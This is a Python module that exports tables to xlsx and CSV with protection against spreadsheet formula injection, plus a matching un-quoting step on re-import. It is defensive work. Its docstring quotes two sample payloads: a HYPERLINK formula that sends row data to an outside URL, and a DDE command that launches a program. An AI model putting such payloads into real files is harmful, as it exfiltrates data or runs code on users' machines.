"""Tables out to spreadsheets (.xlsx and CSV), safe to open: no cell ever runs as a formula.

Formula injection: a spreadsheet program runs a cell whose text starts with ``=`` (in a CSV
also ``+``, ``-``, ``@``, tab or CR) as a formula. ``=HYPERLINK("http://…?d="&B2,"详情")``
sends the row elsewhere when clicked, ``=cmd|' /C calc'!A0`` starts a program. Ledger, task,
point and lab text is typed by people, so every table gwlib writes goes through this module
(a test fails on any ``to_excel``/``to_csv``/``Workbook`` elsewhere):

- **xlsx** (:func:`excel_bytes`, :func:`excel_value`, :func:`string_cells`): every text cell is
  a string cell (``t="inlineStr"``), never a formula cell, whatever its first character; a text
  starting with ``= + - @`` also carries Excel's quote prefix, so that editing the cell in Excel
  keeps it text. Numbers stay number cells (``-3.5`` is a number).
- **CSV** (:func:`csv_bytes`, :func:`write_csv`): a *text* value starting with ``= + - @``, tab
  or CR gets a leading ``'``. Numbers are written as they are: numeric columns and number
  values are never touched, and neither is a text that is a plain decimal number (``-3.5``,
  ``+2``, ``-1e-3``), because a spreadsheet reads it as that number and nothing else, and a
  numeric column read back as text must stay numeric-readable. A text that already starts
  with apostrophes before one of those characters gets one more.
- **Re-import** (:func:`csv_unquote`, used by :mod:`gwlib.io.tables` for CSV input): exactly
  one leading ``'`` is removed when apostrophes are followed by one of those characters. With
  the rule above this is unambiguous: export → import gives back the text that was exported
  (``=1+2`` → ``'=1+2`` → ``=1+2``; ``'=x`` → ``''=x`` → ``'=x``). A third-party CSV holding
  ``'=x`` reads as ``=x``, the value its author protected.
"""

from __future__ import annotations

import io
import re
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

MAX_SHEET_ROWS = 1_048_575  # Excel's limit, less the header row
CSV_ENCODING = "utf-8-sig"  # UTF-8 with BOM: opens correctly in Excel on Chinese Windows
#: First characters that make a spreadsheet read a CSV value as a formula (OWASP's list).
FORMULA_START = "=+-@\t\r"
_QUOTE_IN_XLSX = "=+-@"  # in an xlsx, only these start a formula when a person edits the cell
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
_HOLDS_TEXT = ("string", "mixed", "mixed-integer", "mixed-integer-float")


# -- xlsx -------------------------------------------------------------------------------------


def _mark_text(cell: Any) -> None:
    """Make a cell holding text a string cell (never a formula), quote-prefixed if need be."""
    if cell.data_type == "f" and isinstance(cell.value, str):
        cell.data_type = "s"
    if cell.data_type == "s" and str(cell.value)[:1] in _QUOTE_IN_XLSX:
        cell.quotePrefix = True


def excel_value(ws: Any, value: Any) -> Any:
    """``value`` ready for ``ws.append``: a string cell for text that openpyxl would otherwise
    store as a formula or that starts with a formula character; anything else unchanged."""
    if not isinstance(value, str) or value[:1] not in _QUOTE_IN_XLSX or value == "":
        return value
    from openpyxl.cell import Cell

    cell = Cell(ws, value=value)
    _mark_text(cell)
    return cell


def string_cells(ws: Any) -> None:
    """Walk a worksheet written by someone else (pandas) and make every text cell a string
    cell. Formula cells with non-text values (none are written by gwlib) are left alone."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type in ("f", "s"):
                _mark_text(cell)


def excel_bytes(
    sheets: Mapping[str, pd.DataFrame],
    dropdowns: Mapping[str, Mapping[str, Sequence[str]]] | None = None,
    dropdown_rows: int = 2000,
) -> bytes:
    """An .xlsx file with each frame on its own sheet (names cut to Excel's 31 characters),
    header row frozen, widths fitted, every text cell a string cell.

    ``dropdowns``: per sheet, a column header and its allowed values; the column gets a
    drop-down list (data validation) over its first ``dropdown_rows`` rows, the lists kept on a
    hidden sheet 「选项」."""
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            if len(frame) > MAX_SHEET_ROWS:
                raise ValueError(f"表「{name}」有 {len(frame)} 行，超过 Excel 单表上限")
            sheet = name[:31]
            frame.to_excel(writer, sheet_name=sheet, index=False)
            ws = writer.sheets[sheet]
            string_cells(ws)
            ws.freeze_panes = "A2"
            for col_cells in ws.columns:
                width = max(len(str(c.value or "")) for c in col_cells[:200])
                ws.column_dimensions[col_cells[0].column_letter].width = min(8 + width * 1.6, 60)
        if dropdowns:
            _add_dropdowns(writer, sheets, dropdowns, max(dropdown_rows, 2))
    return buf.getvalue()


def _add_dropdowns(writer: Any, sheets: Mapping[str, pd.DataFrame],
                   dropdowns: Mapping[str, Mapping[str, Sequence[str]]],
                   rows: int) -> None:  # fmt: skip
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.datavalidation import DataValidation

    lists = writer.book.create_sheet("选项")
    lists.sheet_state = "hidden"
    k = 0
    for name, columns in dropdowns.items():
        ws = writer.sheets[name[:31]]
        headers = [str(c) for c in sheets[name].columns]
        for header, values in columns.items():
            if header not in headers or not values:
                continue
            k += 1
            letter = get_column_letter(k)
            lists.cell(row=1, column=k, value=excel_value(lists, header))
            for i, item in enumerate(values, start=2):
                lists.cell(row=i, column=k, value=excel_value(lists, str(item)))
            dv = DataValidation(
                type="list",
                formula1=f"=选项!${letter}$2:${letter}${len(values) + 1}",
                allow_blank=True,
                showErrorMessage=True,
                errorTitle="请从下拉列表选择",
                error=("应为：" + "、".join(str(v) for v in values))[:250],
            )
            target = get_column_letter(headers.index(header) + 1)
            dv.add(f"{target}2:{target}{max(rows, len(sheets[name]) + 1)}")
            ws.add_data_validation(dv)


# -- CSV --------------------------------------------------------------------------------------


def csv_quote(text: str) -> str:
    """``text`` as a CSV value no spreadsheet runs (see the module docstring for the rule)."""
    if _NEEDS_QUOTE.match(text) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_unquote(text: str) -> str:
    """The inverse of :func:`csv_quote` on import: one leading ``'`` before apostrophes and a
    formula character is removed; any other text is returned as it is."""
    return text[1:] if _QUOTED.match(text) else text


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text values (and headers) pass through :func:`csv_quote`;
    number, date and boolean columns, and number values inside text columns, are untouched."""
    out = frame.copy()
    out.columns = [csv_quote(c) if isinstance(c, str) else c for c in out.columns]
    for j in range(out.shape[1]):
        s = out.iloc[:, j]
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
        if pd.api.types.infer_dtype(s, skipna=True) not in _HOLDS_TEXT:
            continue  # numbers, dates, booleans: written as they are
        need = s.str.match(_NEEDS_QUOTE, na=False) & ~s.str.fullmatch(_PLAIN_NUMBER, na=False)
        if need.any():
            s = s.astype(object)
            s[need] = "'" + s[need].astype(str)
            out.isetitem(j, s.to_numpy())
    return out


def csv_bytes(frame: pd.DataFrame, float_format: str | None = None) -> bytes:
    """``frame`` as CSV bytes (UTF-8 with BOM, no index), formula-safe."""
    text: str = csv_safe(frame).to_csv(index=False, float_format=float_format)
    return text.encode(CSV_ENCODING)


def write_csv(frame: pd.DataFrame, path: str | Path, float_format: str | None = None) -> Path:
    """Write ``frame`` to ``path`` as :func:`csv_bytes` does (parent folders created)."""
    p = Path(path)
    p.parent.mkdir(parents=True, exist_ok=True)
    csv_safe(frame).to_csv(p, index=False, encoding=CSV_ENCODING, float_format=float_format)
    return p
